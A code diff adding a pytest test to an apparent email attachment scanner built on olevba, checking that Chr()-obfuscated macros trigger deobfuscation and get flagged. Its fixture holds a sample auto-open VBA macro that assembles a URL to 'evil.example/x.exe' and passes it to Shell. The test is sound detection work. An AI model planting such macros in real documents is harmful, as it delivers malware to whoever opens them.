@@ -36,3 +36,29 @@ def test_deobfuscated_iocs_are_named(analyse) -> None:
 def test_a_macro_without_iocs_gets_none(analyse) -> None:
     att = only(analyse(eml(("sums.docm", document(HARMLESS)))))
     assert "SANDBOX_VBA_IOC" not in att["symbols"], att
+
+
+CHR_BUILT = ('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
+             '    u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://evil.example/x.exe"\r\n'
+             '    Shell u\r\nEnd Sub\r\n')
+
+
+def test_expression_deobfuscation_runs_only_where_strings_are_built(analyse, monkeypatch) -> None:
+    """olevba's pyparsing deobfuscation costs ~240 ms a file: code that builds strings with
+    Chr()/StrReverse/Xor gets it; plain code (its GUIDs count as "Hex Strings") does not."""
+    from oletools.olevba import VBA_Parser
+
+    calls: list[bool] = []
+    original = VBA_Parser.analyze_macros
+
+    def counting(self, show_decoded_strings=False, deobfuscate=False):  # type: ignore[no-untyped-def]
+        calls.append(deobfuscate)
+        return original(self, show_decoded_strings=show_decoded_strings, deobfuscate=deobfuscate)
+
+    monkeypatch.setattr(VBA_Parser, "analyze_macros", counting)
+    only(analyse(eml(("sums.docm", document(HARMLESS)))))
+    assert calls == [False]
+    calls.clear()
+    att = only(analyse(eml(("chr.docm", document(CHR_BUILT)))))
+    assert calls == [False, True]
+    assert "MACRO_SUSPICIOUS" in att["symbols"] or "SANDBOX_VBA_IOC" in att["symbols"], att
